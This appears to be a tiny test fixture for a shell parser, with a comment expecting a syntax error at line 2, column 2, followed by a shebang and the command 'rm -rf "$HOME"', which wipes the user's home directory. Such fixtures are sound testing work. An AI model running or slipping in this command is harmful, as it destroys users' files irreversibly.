//! syntax @2:2 Syntax error
#!/bin/sh
rm -rf "$HOME"
